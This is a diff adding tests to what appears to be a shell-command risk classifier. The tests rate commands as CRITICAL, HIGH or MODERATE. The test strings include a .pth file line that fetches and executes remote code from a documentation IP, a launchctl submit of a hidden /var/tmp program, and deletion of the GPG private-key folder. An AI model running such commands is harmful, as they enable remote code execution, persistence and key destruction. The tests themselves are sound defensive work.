@@ -251,3 +251,15 @@ def test_blanking_every_file_under_a_system_folder_is_critical() -> None:
 
 def test_gpg_private_key_folder() -> None:
     assert level("rm -r ~/.gnupg/private-keys-v1.d") == CRITICAL
+
+
+def test_pth_files_are_rated_by_what_their_import_lines_do() -> None:
+    site = "~/.local/lib/python3.10/site-packages"
+    fetch = "import urllib.request as r; exec(r.urlopen('http://192.0.2.4/c').read())"
+    assert level(f'echo "{fetch}" > {site}/x.pth') == CRITICAL
+    assert level(f"echo 'import sys; sys.path.append(\"/srv/py\")' > {site}/p.pth") == MODERATE
+
+
+def test_launchctl_submit_of_a_hidden_program() -> None:
+    assert level("launchctl submit -l sync -- /var/tmp/.s") == CRITICAL
+    assert level("launchctl submit -l sync -- /usr/local/bin/syncd") == HIGH
